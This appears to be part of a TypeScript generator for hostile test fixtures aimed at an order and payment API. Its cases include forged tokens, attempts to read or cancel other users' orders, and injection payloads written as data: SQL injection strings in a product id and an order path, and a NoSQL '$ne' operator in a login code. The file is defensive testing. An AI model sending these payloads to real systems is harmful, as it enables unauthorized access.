      'UNAUTHORIZED',
      {
        method: 'GET',
        path: '/admin/%761/session',
        contentType: undefined,
        auth: false,
        headers: {},
        ext: 'txt',
      },
    ),
    invalid(
      'product-id-sql',
      'SQL in productId (refused by the productId pattern before any query)',
      JSON.stringify({ items: [{ productId: "prd' OR '1'='1", quantity: 1 }] }),
    ),
    invalid(
      'quantity-minus-zero',
      'a quantity of -0',
      order(-0).replace('"quantity":0', '"quantity":-0'),
    ),
    invalid(
      'quantity-max-safe-plus-two',
      'a quantity of 2^53 + 1 written out',
      order(1).replace('"quantity":1', '"quantity":9007199254740993'),
    ),
    invalid('quantity-null', 'a null quantity', order(null)),
    invalid(
      'amount-negative-in-body',
      'a negative amount the client hopes is credited',
      order(1, { amountFen: -1000 }),
    ),
    api(
      'product-unknown',
      'an unknown productId',
      JSON.stringify({ items: [{ productId: 'prd_no_such_product', quantity: 1 }] }),
      422,
      'PRODUCT_UNAVAILABLE',
    ),
    api(
      'idempotency-key-missing',
      'an order without Idempotency-Key',
      order(1),
      400,
      'IDEMPOTENCY_KEY_REQUIRED',
      {
        headers: {},
      },
    ),
    invalid('idempotency-key-too-long', 'an Idempotency-Key of 300 characters', order(1), {
      headers: { 'idempotency-key': 'k'.repeat(300) },
    }),
    api('orders-without-token', 'an order without a token', order(1), 401, 'UNAUTHORIZED', {
      auth: false,
    }),
    api('orders-forged-token', 'an order with a made-up token', order(1), 401, 'UNAUTHORIZED', {
      auth: false,
      headers: {
        'idempotency-key': 'hostile-forged-token',
        authorization: 'Bearer forged.token.value',
      },
    }),
    api('unknown-order-id', 'an order id that does not exist', '', 404, 'NOT_FOUND', {
      method: 'GET',
      path: '/api/v1/orders/ord_NoSuchOrder0000000000',
      contentType: undefined,
      headers: {},
      ext: 'txt',
    }),
    api('order-id-sql', 'SQL in the order id of the path', '', 404, 'NOT_FOUND', {
      method: 'GET',
      path: "/api/v1/orders/ord'%20OR%20'1'='1",
      contentType: undefined,
      headers: {},
      ext: 'txt',
    }),
    api('other-user-order', "reading another user's order by id", '', 404, 'NOT_FOUND', {
      method: 'GET',
      path: '/api/v1/orders/{otherUserOrderId}',
      contentType: undefined,
      headers: {},
      ext: 'txt',
    }),
    api('other-user-cancel', "cancelling another user's order", '', 404, 'NOT_FOUND', {
      path: '/api/v1/orders/{otherUserOrderId}/cancel',
      contentType: undefined,
      headers: {},
      ext: 'txt',
    }),
    api(
      'other-user-payment',
      "asking payment parameters for another user's order",
      '',
      404,
      'NOT_FOUND',
      {
        path: '/api/v1/orders/{otherUserOrderId}/payment',
        contentType: undefined,
        headers: {},
        ext: 'txt',
      },
    ),
    invalid(
      'login-code-object',
      'a login code that is an object (NoSQL-style operator)',
      JSON.stringify({ code: { $ne: '' } }),
      {
        path: '/api/v1/login',
        auth: false,
        headers: {},
      },
    ),
  ];
}

/** Every case for `ctx`, in a stable order. */
export function buildHostileCases(ctx: HostileContext = DEFAULT_HOSTILE_CONTEXT): HostileCase[] {
  const specs = [
    ...xxeCases(ctx),
    ...shapeCases(ctx),
    ...signatureCases(ctx),
    ...businessCases(ctx),
    ...refundCases(ctx),
    ...jsonCases(),
  ];
  const seen = new Set<string>();
  return specs.map(({ ext, body, ...spec }) => {
    if (seen.has(spec.name)) throw new Error(`duplicate hostile case name ${spec.name}`);
    seen.add(spec.name);
    return {
      ...spec,
      file: `${spec.name}.${ext ?? 'xml'}`,
      body: typeof body === 'string' ? Buffer.from(body, 'utf8') : body,
    };
  });
}

/** manifest.json: every case without its bytes, as stable, formatted JSON. */
export function hostileManifest(cases: readonly HostileCase[]): string {
  const entries = cases.map(({ body: _body, ...entry }) => entry);
  return `${JSON.stringify({ description: MANIFEST_DESCRIPTION, cases: entries }, null, 2)}\n`;
}

const MANIFEST_DESCRIPTION =
  'Generated by scripts/gen-hostile-fixtures.ts; do not edit. Placeholders in json-api paths ' +
  'and bodies ({productId}, {otherUserOrderId}) are filled in by the server test.';
